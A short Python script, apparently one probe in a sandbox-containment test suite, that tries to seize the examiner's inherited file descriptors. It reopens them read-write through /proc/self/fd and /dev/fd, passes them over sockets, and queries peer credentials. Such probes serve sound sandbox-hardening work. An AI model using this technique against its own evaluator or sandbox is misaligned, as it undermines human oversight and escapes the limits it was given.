"""Copies the examiner's descriptors, sends them to itself, and opens them anew through /proc and /dev."""
import array
import os
import socket
from aims import attempt, scale

for number in range(3, 32):
    for copy in (63, 62):
        try:
            os.dup2(number, copy)
        except OSError:
            continue
        attempt(os.open, f"/proc/self/fd/{copy}", os.O_RDWR)
        attempt(os.open, f"/dev/fd/{copy}", os.O_RDWR)
        attempt(lambda: socket.socket(fileno=os.dup(copy)).sendmsg([b"x"], [(1, 1, array.array("i", [copy]))]))
        attempt(lambda: socket.socket(fileno=os.dup(copy)).getsockopt(1, 17, 12))
        os.close(copy)
